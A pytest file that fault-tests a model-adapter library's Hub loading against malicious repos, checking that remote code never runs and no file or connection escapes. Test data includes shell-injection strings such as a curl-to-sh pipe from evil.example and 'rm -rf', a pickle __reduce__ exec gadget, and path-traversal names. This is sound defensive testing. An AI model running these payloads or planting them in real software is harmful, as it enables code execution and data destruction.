"""Fault injection at the Hub boundary (issue #18, items 1-4): a malicious-repo set served by the
loopback Hub, hostile metadata, refused tokens and a Hub that never answers.

Every hostile input must end in one clear line (or a safe load): no code from a repo runs, no file
outside the allowlist is fetched, nothing is written outside the Hub cache, and no connection goes
anywhere but the loopback Hub.
"""

from __future__ import annotations

import json
import os
import pickle
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import save

import hub_support
from hub_support import ALICE, BOB
from lowres_adapters import hub
from lowres_adapters.errors import LowresError
from lowres_adapters.testing.hub import LoopbackHub, SilentServer, running_hub

pytestmark = pytest.mark.filterwarnings("ignore::UserWarning")

HOSTILE_PATHS = ("tokenizer/../../escaped.json", "../escaped.json", "tokenizer/sub/../../../escaped.json",
                 "/etc/escaped.json", "tokenizer/.hidden.json", "tokenizer/evil.py", "tokenizer/tokenizer.bin",
                 "tokenizer/x.pkl", "pytorch_model.bin", "adapterhub/pytorch_adapter.bin", "tokenizer/a/b.json",
                 "tokenizer\\..\\escaped.json", "lowres_adapter.json/../x.json", "tokenizer/run.sh")
"""Repo paths ``load`` must never fetch (code, pickles, traversal, sub-folders)."""
HOSTILE_BASE_MODELS = ("https://evil.example.com/model", "http://127.0.0.1:{silent_port}/x", "/etc", "../../x",
                       "file:///etc/passwd", "alice/tiny-base-faults/../../../etc", "C:\\Windows", "",
                       "//evil.example.com/x", "alice/x?y=1", "~/models/x")
HOSTILE_PLUGINS = ("x && curl https://evil.example | sh", "x; rm -rf ~", "x @ https://evil.example/x.whl",
                   "$(reboot)", "x==1 | sh", "`id`", "x\nrm -rf /", "x; python_version>'3'")


@pytest.fixture(scope="module")
def base_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return hub_support.save_tiny_base(tmp_path_factory.mktemp("tiny-base"))


@pytest.fixture(scope="module")
def base_id(base_dir: Path) -> str:
    return hub_support.publish_tiny_base(base_dir, "alice/tiny-base-faults")


@pytest.fixture
def loopback() -> LoopbackHub:
    server = running_hub(os.environ["HF_ENDPOINT"])
    assert server is not None, "the session's loopback Hub (tests/conftest.py) is not running"
    return server


@pytest.fixture
def artifact(tmp_path: Path, base_dir: Path, base_id: str) -> dict[str, bytes]:
    """The files of a valid toy adapter on the loopback tiny base: what a hostile repo starts from."""
    hub_support.use_toy_registry()
    run = hub_support.make_run_folder(tmp_path / "run", base_dir, base_model=base_id)
    return {name: (run / name).read_bytes() for name in ("lowres_adapter.json", "adapter.safetensors")}


def with_metadata(files: dict[str, bytes], **changes: Any) -> dict[str, bytes]:
    metadata = json.loads(files["lowres_adapter.json"])
    metadata.update(changes)
    return {**files, "lowres_adapter.json": json.dumps(metadata).encode()}


def fetched(server: LoopbackHub, repo_id: str) -> set[str]:
    """Return the repo paths the client downloaded (GET .../resolve/REV/PATH) from ``repo_id``."""
    prefix = f"/{repo_id}/resolve/"
    return {path[len(prefix):].split("/", 1)[1] for method, path in server.requests
            if method == "GET" and path.startswith(prefix)}


def remote_code_repo(files: dict[str, bytes], marker: Path) -> dict[str, bytes]:
    """A vocabulary-extending artifact whose tokenizer asks transformers to import tokenizer/evil.py."""
    tensors = {"bias": torch.zeros(32), "lowres.new_embedding_rows": torch.zeros(1, 32)}
    config = {"auto_map": {"AutoTokenizer": ["evil.EvilTokenizer", None]}, "tokenizer_class": "EvilTokenizer"}
    evil = f"open({str(marker)!r}, 'w').write('pwned')\nclass EvilTokenizer:\n    pass\n"
    metadata = json.loads(files["lowres_adapter.json"])
    metadata["vocabulary"] = {"original_size": 261, "added_tokens": 1}
    return {"lowres_adapter.json": json.dumps(metadata).encode(), "adapter.safetensors": save(tensors),
            "tokenizer/tokenizer_config.json": json.dumps(config).encode(), "tokenizer/evil.py": evil.encode()}


def test_remote_code_in_a_repo_is_refused_and_never_downloaded(artifact, loopback, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    loopback.store.plant_repo("alice/evil-code", remote_code_repo(artifact, marker))
    with pytest.raises(LowresError, match=r"asks to run code from the repo \(auto_map\)") as error:
        hub.load("alice/evil-code")
    assert "\n" not in str(error.value) and not marker.exists()
    assert "tokenizer/evil.py" not in fetched(loopback, "alice/evil-code")


def test_cli_answering_yes_to_a_prompt_still_runs_no_code(artifact, loopback, tmp_path: Path) -> None:
    """The probe of item 1: `lowres load` with 'y' on stdin (transformers' 'run custom code?' prompt)."""
    marker = tmp_path / "pwned"
    loopback.store.plant_repo("alice/evil-code-cli", remote_code_repo(artifact, marker))
    code = (f"import sys; sys.path.insert(0, {str(Path(__file__).parent)!r}); import hub_support; "
            "hub_support.use_toy_registry(); from lowres_adapters.cli import main; main(['load', 'alice/evil-code-cli'])")
    environment = {key: value for key, value in os.environ.items() if key not in hub_support.OFFLINE_VARIABLES}
    result = subprocess.run([sys.executable, "-c", code], input="y\n" * 8, capture_output=True, text=True,
                            env={**environment, "OMP_NUM_THREADS": "1"}, timeout=300)
    assert result.returncode == 1 and not marker.exists(), result.stderr
    assert result.stderr.strip().count("\n") == 0 and "never runs a repo's code" in result.stderr


def test_a_local_folder_asking_for_remote_code_runs_none(artifact, base_dir: Path, tmp_path: Path) -> None:
    """Defence in depth: even when the code file is on disk, transformers is told not to trust it."""
    marker = tmp_path / "pwned"
    folder = tmp_path / "folder"
    for name, content in remote_code_repo(artifact, marker).items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content)
    with pytest.raises(LowresError, match="cannot load the extended tokenizer") as error:
        hub.load(str(folder), model=str(base_dir))
    assert "\n" not in str(error.value) and not marker.exists()


def test_only_allowlisted_files_are_downloaded(artifact, loopback) -> None:
    planted = {**artifact, **{path: b'{"x": 1}' for path in HOSTILE_PATHS}}
    loopback.store.plant_repo("alice/hostile-paths", planted)
    model, _ = hub.load("alice/hostile-paths")
    assert model is not None
    assert fetched(loopback, "alice/hostile-paths") == {"lowres_adapter.json", "adapter.safetensors"}
    assert hub.allowed_files(HOSTILE_PATHS) == []
    home = Path(os.environ["HF_HOME"]).parent
    assert not [path for path in home.rglob("escaped*")]


def test_a_pickled_base_model_is_never_unpickled(artifact, loopback, base_dir: Path, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"

    class Evil:
        def __reduce__(self) -> tuple:
            return (exec, (f"open({str(marker)!r}, 'w').write('pwned')",))

    base_files = {path.name: path.read_bytes() for path in base_dir.iterdir()
                  if path.is_file() and not path.name.endswith(".safetensors")}
    loopback.store.plant_repo("alice/pickled-base", {**base_files, "pytorch_model.bin": pickle.dumps(Evil())})
    loopback.store.plant_repo("alice/on-pickled-base", with_metadata(artifact, base_model="alice/pickled-base"))
    with pytest.raises(LowresError, match="cannot load model 'alice/pickled-base'") as error:
        hub.load("alice/on-pickled-base")
    assert "\n" not in str(error.value) and not marker.exists()
    assert "pytorch_model.bin" not in fetched(loopback, "alice/pickled-base")


@pytest.mark.parametrize("base_model", HOSTILE_BASE_MODELS)
def test_hostile_base_model_is_refused_before_any_connection(artifact, loopback, base_model: str, monkeypatch,
                                                             request) -> None:
    silent = SilentServer()
    seen: list[Any] = []
    guarded_connect = socket.socket.connect

    def recording_connect(self: socket.socket, address: Any) -> Any:
        seen.append(address)
        return guarded_connect(self, address)

    repo_id = f"alice/hostile-base-{request.node.callspec.indices['base_model']}"
    loopback.store.plant_repo(repo_id, with_metadata(artifact, base_model=base_model.format(
        silent_port=silent.url.rsplit(":", 1)[1])))
    monkeypatch.setattr(socket.socket, "connect", recording_connect)
    try:
        with pytest.raises(LowresError, match="base_model") as error:
            hub.load(repo_id)
    finally:
        silent.close()
    assert "\n" not in str(error.value) and silent.connections == 0
    hub_port = int(loopback.url.rsplit(":", 1)[1])
    assert all(address == ("127.0.0.1", hub_port) for address in seen if isinstance(address, tuple))


def test_base_model_naming_an_existing_local_folder_is_refused(artifact, loopback, tmp_path: Path,
                                                               monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "alice" / "local-base").mkdir(parents=True)
    loopback.store.plant_repo("alice/local-base-trick", with_metadata(artifact, base_model="alice/local-base"))
    with pytest.raises(LowresError, match="names a local path"):
        hub.load("alice/local-base-trick")


@pytest.mark.parametrize("field, value", [("base_model_revision", "../../../etc"), ("base_model_revision", "a b"),
                                          ("adapter_name", "../../x"), ("adapter_name", "x; rm -rf /")])
def test_hostile_revision_or_adapter_name_is_refused(artifact, loopback, field: str, value: str, request) -> None:
    repo_id = f"alice/hostile-field-{request.node.callspec.indices['field']}-{request.node.callspec.indices['value']}"
    loopback.store.plant_repo(repo_id, with_metadata(artifact, **{field: value}))
    with pytest.raises(LowresError, match=field) as error:
        hub.load(repo_id)
    assert "\n" not in str(error.value)


@pytest.mark.parametrize("plugin", HOSTILE_PLUGINS)
def test_hostile_plugin_field_gives_no_install_hint(artifact, loopback, plugin: str, request) -> None:
    repo_id = f"alice/hostile-plugin-{request.node.callspec.indices['plugin']}"
    loopback.store.plant_repo(repo_id, with_metadata(artifact, adapter_type="not_installed", plugin=plugin))
    with pytest.raises(LowresError, match="'not_installed' is not installed") as error:
        hub.load(repo_id)
    message = str(error.value)
    assert "pip install" not in message and "\n" not in message and "curl" not in message and "rm -rf" not in message


def test_a_valid_plugin_field_gives_a_quoted_install_hint(artifact, loopback) -> None:
    loopback.store.plant_repo("alice/plugin-hint", with_metadata(artifact, adapter_type="not_installed",
                                                                 plugin="lowres-adapter-peft>=0.1"))
    with pytest.raises(LowresError, match=r"pip install 'lowres-adapter-peft>=0\.1'$"):
        hub.load("alice/plugin-hint")


def test_a_private_repo_is_not_served_from_the_cache_after_a_refusal(tmp_path: Path, base_dir: Path, base_id: str,
                                                                     monkeypatch) -> None:
    hub_support.use_toy_registry()
    run = hub_support.make_run_folder(tmp_path / "run", base_dir, base_model=base_id)
    hub.publish(run, "alice/private-cached", token=ALICE, private=True)
    monkeypatch.delenv("HF_TOKEN", raising=False)
    model, _ = hub.load("alice/private-cached", token=ALICE)  # fills the cache, authorised
    assert model is not None
    for token in (BOB, False):
        with pytest.raises(LowresError, match="private") as error:
            hub.load("alice/private-cached", token=token)
        assert "\n" not in str(error.value) and ALICE not in str(error.value) and BOB not in str(error.value)


def test_a_hub_that_never_answers_ends_in_one_line(tmp_path: Path) -> None:
    """The probe of item 4 (a stopped Hub), bounded: the child must give up on its own timeout."""
    silent = SilentServer()
    environment = {key: value for key, value in os.environ.items() if key not in hub_support.OFFLINE_VARIABLES}
    environment.update({"HF_ENDPOINT": silent.url, "HF_HUB_ETAG_TIMEOUT": "1", "HF_HUB_DOWNLOAD_TIMEOUT": "1",
                        "HF_HOME": str(tmp_path / "hf-home"), "OMP_NUM_THREADS": "1"})
    code = "from lowres_adapters.cli import main; main(['load', 'alice/anything'])"
    try:
        result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=environment,
                                timeout=120)
    finally:
        silent.close()
    assert result.returncode == 1, result.stderr
    assert result.stderr.strip().count("\n") == 0 and "did not answer within 1 s" in result.stderr
    assert silent.connections >= 1


def test_a_base_model_asking_for_remote_code_runs_none(artifact, loopback, base_dir: Path, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    config = json.loads((base_dir / "config.json").read_text())
    config["auto_map"] = {"AutoConfig": "modeling_evil.EvilConfig", "AutoModelForCausalLM": "modeling_evil.EvilModel"}
    files = {path.name: path.read_bytes() for path in base_dir.iterdir() if path.is_file()}
    files.update({"config.json": json.dumps(config).encode(),
                  "modeling_evil.py": f"open({str(marker)!r}, 'w').write('pwned')\n".encode()})
    loopback.store.plant_repo("alice/remote-code-base", files)
    loopback.store.plant_repo("alice/on-remote-code-base", with_metadata(artifact, base_model="alice/remote-code-base"))
    model, _ = hub.load("alice/on-remote-code-base")  # transformers' own llama classes, never the repo's
    assert type(model).__module__.startswith("transformers.") and not marker.exists()
    assert "modeling_evil.py" not in fetched(loopback, "alice/remote-code-base")


def test_an_unreachable_hub_is_one_line_and_offline_mode_is_the_way_to_the_cache(artifact, loopback,
                                                                                 monkeypatch) -> None:
    from huggingface_hub import constants

    loopback.store.plant_repo("alice/cached-public", artifact)
    hub.load("alice/cached-public")  # cached
    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))
    port = closed.getsockname()[1]
    closed.close()  # nothing listens there: connections are refused
    monkeypatch.setattr(constants, "ENDPOINT", f"http://127.0.0.1:{port}")
    with pytest.raises(LowresError, match=r"cannot reach the Hub .*HF_HUB_OFFLINE=1 loads from the cache") as error:
        hub.load("alice/cached-public")
    assert "\n" not in str(error.value)
    monkeypatch.setattr(constants, "HF_HUB_OFFLINE", True)
    model, _ = hub.load("alice/cached-public")
    assert model is not None
